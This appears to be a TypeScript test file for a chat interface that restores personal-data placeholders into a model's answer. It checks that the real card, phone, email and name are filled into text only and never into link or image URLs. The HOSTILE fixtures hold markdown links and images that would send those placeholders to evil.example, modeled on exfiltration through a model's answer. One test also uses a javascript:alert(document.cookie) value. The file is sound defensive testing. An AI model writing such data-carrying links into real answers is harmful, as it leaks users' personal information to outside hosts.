/**
 * Finding 2 of issue 15: a model answer must not get the user's real values into a link. The real
 * Vault, StreamRestorer and Markdown: the answer streams through the restorer as written, and the
 * renderer fills placeholders into text nodes only.
 */
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { Vault } from '../../../../core/pii';
import { StreamRestorer } from '../../../../orchestrator/stream-restorer';
import { answerRestorer, vaultFromRows } from '../answer-restorer';
import { Markdown } from '../Markdown';

const CARD = '4111 1111 1111 1111';
const PHONE = '+1 415 555 0100';
const EMAIL = 'ana.lima@example.org';

function vault(): Vault {
  const v = new Vault();
  expect(v.placeholderFor('CREDIT_CARD', CARD)).toBe('[CREDIT_CARD_1]');
  expect(v.placeholderFor('PHONE', PHONE)).toBe('[PHONE_1]');
  expect(v.placeholderFor('EMAIL', EMAIL)).toBe('[EMAIL_1]');
  expect(v.placeholderFor('PERSON', 'Ana Lima')).toBe('[PERSON_1]');
  return v;
}

/** Streams `answer` through the real StreamRestorer in chunks of `size`, as the UI receives it. */
function stream(v: Vault, answer: string, size: number): string {
  let shown = '';
  const r = new StreamRestorer(v, (d) => (shown += d));
  for (let i = 0; i < answer.length; i += size) r.push(answer.slice(i, i + size));
  r.finish();
  return shown;
}

function render(text: string, v: Vault | undefined): string {
  return renderToStaticMarkup(
    <Markdown text={text} restorer={v ? answerRestorer(v) : undefined} />,
  );
}

/** Every attribute value in the markup, decoded as a browser would read it. */
function attributeValues(html: string): string[] {
  return [...html.matchAll(/\s[a-z-:]+="([^"]*)"/gi)].map((m) => {
    const v = (m[1] ?? '').replace(/&amp;/g, '&').replace(/&quot;/g, '"');
    try {
      return decodeURIComponent(v);
    } catch {
      return v;
    }
  });
}

function hrefs(html: string): string[] {
  return [...html.matchAll(/\shref="([^"]*)"/g)].map((m) => m[1] ?? '');
}

const digits = (s: string) => s.replace(/\D/g, '');

/** True when `s` carries any of the real values, in any spelling a URL might use. */
function carriesValue(s: string): boolean {
  const d = digits(s);
  return (
    s.toLowerCase().includes(EMAIL) ||
    s.includes('Ana Lima') ||
    d.includes(digits(CARD)) ||
    d.includes(digits(PHONE))
  );
}

// The review's reproductions, and the other ways Markdown makes a URL.
const HOSTILE: Record<string, string> = {
  'inline link with <> target': `[Open the statement](<https://evil.example/s?card=[CREDIT_CARD_1]&tel=[PHONE_1]>)`,
  'inline link': `[Open](https://evil.example/s?card=[CREDIT_CARD_1]&tel=[PHONE_1])`,
  'link with a title': `[Open](https://evil.example/s?m=[EMAIL_1] "for [PERSON_1]")`,
  'reference-style link': `See [the statement][s].\n\n[s]: https://evil.example/r?card=[CREDIT_CARD_1]`,
  'collapsed reference': `See [statement][].\n\n[statement]: <https://evil.example/c?p=[PHONE_1]>`,
  autolink: `<https://evil.example/a?card=[CREDIT_CARD_1]>`,
  // GFM takes "[PHONE_1" into the URL and leaves the unbalanced "]" out.
  'bare URL': `Go to https://evil.example/b?tel=[PHONE_1] now`,
  'mailto link': `[write](mailto:[EMAIL_1]?subject=[PERSON_1])`,
  image: `![logo](https://evil.example/p.png?m=[EMAIL_1])`,
  'image in a link': `[![x](https://evil.example/i?c=[CREDIT_CARD_1])](https://evil.example/l?m=[EMAIL_1])`,
};

describe('placeholders are filled into text, never into URLs', () => {
  for (const [name, answer] of Object.entries(HOSTILE)) {
    it(`${name}: no attribute carries a real value; the link asks before opening`, () => {
      const v = vault();
      for (const size of [1, 3, 7, answer.length]) {
        const html = render(stream(v, answer, size), v);
        for (const value of attributeValues(html)) expect(carriesValue(value), value).toBe(false);
        const links = hrefs(html);
        expect(links.length).toBeGreaterThan(0);
        // Every link that would carry a value keeps the placeholder, is marked and asks first.
        expect(html).toContain('md-personal-link');
        expect(html).toContain('asks before opening');
        const targets = links.map((h) => decodeURIComponent(h.replace(/&amp;/g, '&')));
        expect(targets.some((t) => /\[(CREDIT_CARD|PHONE|EMAIL)_1/.test(t))).toBe(true);
      }
    });
  }

  it('fills values into text: paragraphs, link text, emphasis, tables, code and alt text', () => {
    const v = vault();
    const answer = [
      `Dear [PERSON_1], your card [CREDIT_CARD_1] is on file.`,
      `**Call [PHONE_1]** or [mail [EMAIL_1]](https://help.example/contact).`,
      `| who | card |\n|---|---|\n| [PERSON_1] | [CREDIT_CARD_1] |`,
      '```txt\nto: [EMAIL_1]\n```',
      `![photo of [PERSON_1]](https://img.example/a.png)`,
    ].join('\n\n');
    const html = render(stream(v, answer, 5), v);
    expect(html).toContain(`Dear Ana Lima, your card ${CARD} is on file.`);
    expect(html).toContain(`<strong>Call ${PHONE}</strong>`);
    expect(html).toContain(`>mail ${EMAIL}</a>`);
    expect(html).toContain(`<td>Ana Lima</td><td>${CARD}</td>`);
    expect(html).toContain(`to: ${EMAIL}`);
    expect(html).toContain('Image: photo of Ana Lima');
    // The help link carries nothing personal: a plain link, no question asked.
    expect(html).toContain('<a href="https://help.example/contact" target="_blank"');
    expect(html).not.toContain('md-personal-link');
    for (const value of attributeValues(html)) expect(carriesValue(value), value).toBe(false);
  });

  it('highlighted code gets whole values (restored before highlighting)', () => {
    const v = vault();
    const html = render('```json\n{"email": "[EMAIL_1]", "card": "[CREDIT_CARD_1]"}\n```', v);
    expect(html).toContain(EMAIL);
    expect(html).toContain(CARD);
    expect(html).not.toContain('EMAIL_1');
  });

  it('without a restorer, or with placeholders the vault does not know, nothing is filled in', () => {
    expect(render('Dear [PERSON_1]', undefined)).toContain('Dear [PERSON_1]');
    const html = render('[x](https://evil.example/?q=[PERSON_9]) and [PERSON_9]', vault());
    expect(html).toContain('[PERSON_9]');
    expect(html).not.toContain('md-personal-link');
  });
});

describe('answerRestorer.link', () => {
  it('shows what opening the link would send: the full URL with values, and their kinds', () => {
    const r = answerRestorer(vault());
    expect(r.link('https://evil.example/s?card=%5BCREDIT_CARD_1%5D&tel=%5BPHONE_1%5D')).toEqual({
      url: `https://evil.example/s?card=${CARD}&tel=${PHONE}`,
      openable: true,
      types: ['CREDIT_CARD', 'PHONE'],
    });
    expect(r.link('https://help.example/contact')).toBeUndefined();
    expect(r.link('https://evil.example/%E0%A4%A?x=[EMAIL_1]')).toMatchObject({
      types: ['EMAIL'],
    });
  });

  it('also flags a value the answer wrote out itself, in any digit grouping', () => {
    const r = answerRestorer(vault());
    expect(r.link(`https://x.example/?m=${encodeURIComponent(EMAIL)}`)?.types).toEqual(['EMAIL']);
    expect(r.link('https://x.example/?c=4111-1111-1111-1111')?.types).toEqual(['CREDIT_CARD']);
    expect(r.link('https://x.example/?c=4111')).toBeUndefined();
  });

  it('a target that only a value makes unsafe cannot be opened with the value', () => {
    const v = new Vault();
    v.placeholderFor('URL', 'javascript:alert(document.cookie)');
    expect(answerRestorer(v).link('[URL_1]')).toMatchObject({ openable: false, types: ['URL'] });
  });

  it('builds the vault from the stored rows', () => {
    const rows = vault()
      .entries()
      .map((e) => ({ ...e, conversationId: 'c', normalized: '' }));
    expect(answerRestorer(vaultFromRows(rows)).text('[PERSON_1] [EMAIL_1]')).toBe(
      `Ana Lima ${EMAIL}`,
    );
  });
});
